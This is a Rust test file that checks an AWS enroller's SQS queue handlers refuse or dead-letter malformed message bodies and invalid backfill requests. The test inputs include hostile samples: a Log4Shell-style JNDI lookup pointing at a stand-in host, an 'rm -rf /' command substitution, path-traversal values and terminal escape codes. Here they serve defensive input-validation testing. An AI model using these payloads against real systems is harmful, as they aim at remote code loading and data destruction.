//! Bodies that are neither an event nor a message, on every queue.

use serde_json::{Value, json};

use crate::harness::{
    End, Queue, assert_ends_as, assert_good_message_is_handled, assert_unchanged, everything, settled_organization,
};

/// Longest body that SQS accepts, in bytes.
const LONGEST_BODY: usize = 1_048_576;

const UNKNOWN_BODY: End = End::Dropped("neither an EventBridge event nor one of the enroller's own messages");

/// Name and body of each case, how it ends on the two event queues, and how it ends on the backfill queue.
fn bodies() -> Vec<(&'static str, String, End, End)> {
    let refused = |case, body: &str, reason| (case, body.to_owned(), End::Refused(reason), End::Refused(reason));
    let long = |piece: &str| piece.repeat(LONGEST_BODY / piece.len());
    let no_request = End::Refused("expected an object");
    let scalar = |case, body: &str| (case, body.to_owned(), UNKNOWN_BODY, no_request.clone());
    vec![
        refused("blank", " \n\t", "the body is not JSON: EOF"),
        refused("half an object", "{", "the body is not JSON: EOF"),
        refused("1 MiB of lists in lists", &long("["), "the body is not JSON: recursion limit"),
        refused("1 MiB of objects in objects", &long("{\"detail\":"), "the body is not JSON: recursion limit"),
        refused("1 MiB of a text without an end", &long("\"a"), "the body is not JSON"),
        refused("two objects", "{}{}", "the body is not JSON: trailing characters"),
        refused("a byte order mark", "\u{feff}{}", "the body is not JSON: expected value"),
        refused("half a surrogate pair", r#"{"source":"aws.ec2\ud800"}"#, "the body is not JSON"),
        refused("the other half", r#"{"source":"aws.ec2\udfff"}"#, "the body is not JSON: lone"),
        refused("a number beyond all", r#"{"version":1e999}"#, "the body is not JSON: number out of range"),
        refused("NaN", r#"{"version":NaN}"#, "the body is not JSON"),
        refused("a lookup of a logger", "${jndi:ldap://evil.example/a}", "the body is not JSON: expected value"),
        refused("a shell command", "$(rm -rf /)", "the body is not JSON: expected value"),
        refused("XML", "<?xml version=\"1.0\"?><a/>", "the body is not JSON: expected value"),
        scalar("a text", "\"CreateVpc\""),
        scalar("1 MiB of text", &format!("\"{}\"", "a".repeat(LONGEST_BODY - 2))),
        scalar("a number", "12"),
        scalar("a truth", "true"),
        scalar("an empty list", "[]"),
        scalar("a list of events", r#"[{"source":"aws.ec2"}]"#),
        (
            "1 MiB of nesting in a notification",
            json!({"Type": "Notification", "Message": "[".repeat(LONGEST_BODY - 100)}).to_string(),
            End::Refused("the body is not JSON: recursion limit"),
            End::Refused("unknown field"),
        ),
        refused("an unknown kind", r#"{"kind":"lunch-request","version":1}"#, "\"lunch-request\" is not a kind"),
        refused("a kind of 1 MiB", &kind_of_a_mebibyte(), "is not a kind of message"),
        refused("a version of later", r#"{"kind":"sync-request","version":2}"#, "version 2 cannot be read"),
        refused("a version that is a text", r#"{"kind":"sync-request","version":"1"}"#, "version \"1\" cannot be read"),
        refused("a version of 2^64", r#"{"kind":"sync-request","version":18446744073709551616}"#, "cannot be read"),
        refused("no version", r#"{"kind":"grant-request","account":"111122223333"}"#, "version null"),
    ]
}

fn kind_of_a_mebibyte() -> String {
    let rest = json!({"kind": "", "version": 1}).to_string().len();
    json!({"kind": "k".repeat(LONGEST_BODY - rest), "version": 1}).to_string()
}

#[tokio::test]
async fn a_meaningless_body_makes_no_call_and_ends_as_a_dead_letter() {
    let lab = settled_organization().await;
    for (case, body, on_events, on_backfill) in bodies() {
        for queue in Queue::ALL {
            let end = if queue == Queue::Backfill { &on_backfill } else { &on_events };
            assert_ends_as(&lab, queue, case, &body, end).await;
        }
    }
}

#[tokio::test]
async fn a_meaningless_body_delays_no_other_message_of_its_batch() {
    let lab = settled_organization().await;
    for (case, body, _, _) in bodies() {
        for queue in Queue::ALL {
            assert_good_message_is_handled(&lab, queue, case, &body).await;
        }
    }
}

#[tokio::test]
async fn a_backfill_request_with_any_invalid_part_queues_nothing() {
    let lab = settled_organization().await;
    for (case, body, reason) in [
        ("a selector of a later release", r#"{"tags":["a"]}"#, "unknown field"),
        ("an account that is a number", r#"{"accounts":[111122223333]}"#, "expected a string"),
        ("an account with a space", r#"{"accounts":["11112222333 "]}"#, "expected 12 digits"),
        ("an account in other digits", r#"{"accounts":["１１１１２２２２３３３３"]}"#, "expected 12 digits"),
        ("a unit that is a path", r#"{"organizational_units":["../ou-ab12-cdefghij"]}"#, "expected"),
        ("a Region that is a path", r#"{"regions":["eu-west-1/../.."]}"#, "expected a code such as eu-west-1"),
        ("a Region that is not enrolled", r#"{"regions":["sa-east-1"]}"#, "sa-east-1"),
        ("a flag that is a text", r#"{"dry_run":"false"}"#, "expected true or false"),
        ("an event of another service", r#"{"detail-type":"x","source":"aws.s3"}"#, "is not a scheduled event"),
        ("a grant request", r#"{"kind":"grant-request","version":1,"account":"111122223333"}"#, "another function"),
        (
            "a continuation after nobody",
            r#"{"kind":"backfill-request","version":1,"request":{},"run_id":"r","after":"*"}"#,
            "\"*\" is not an account id",
        ),
    ] {
        assert_ends_as(&lab, Queue::Backfill, case, body, &End::Refused(reason)).await;
    }
    let many: Vec<String> = (0..50_000).map(|number| format!("\u{1b}[2J{number}")).collect();
    let body = json!({ "accounts": many }).to_string();
    assert_ends_as(&lab, Queue::Backfill, "50,000 invalid ids", &body, &End::Refused("expected 12 digits")).await;
}

#[tokio::test]
async fn a_continuation_of_a_backfill_is_refused_on_other_queues() {
    let lab = settled_organization().await;
    let body = json!({"kind": "backfill-request", "version": 1, "request": {}, "run_id": "r", "after": "000000000000"});
    for queue in [Queue::Enrollments, Queue::Grants] {
        let end = End::Refused("belongs on the backfill queue");
        assert_ends_as(&lab, queue, "a continuation", &body.to_string(), &end).await;
    }
}

#[tokio::test]
async fn a_record_without_a_body_is_answered_like_any_other() {
    let lab = settled_organization().await;
    let before = everything(&lab);
    for body in [Value::Null, json!("")] {
        let record = json!({"messageId": "m-1", "receiptHandle": "none", "body": body, "eventSource": "aws:sqs",
            "attributes": {"ApproximateReceiveCount": "not a number"}});
        let event = lab.invocation(json!({ "Records": [record] }));
        for answer in [
            lab.enroll(event.clone()).await.unwrap(),
            lab.onboard(event.clone()).await.unwrap(),
            lab.sweep(event.payload.clone()).await.unwrap(),
        ] {
            assert_eq!(answer, json!({"batchItemFailures": [{"itemIdentifier": "m-1"}]}), "{body}");
        }
    }
    assert_unchanged(&lab, &before, "no body");
}
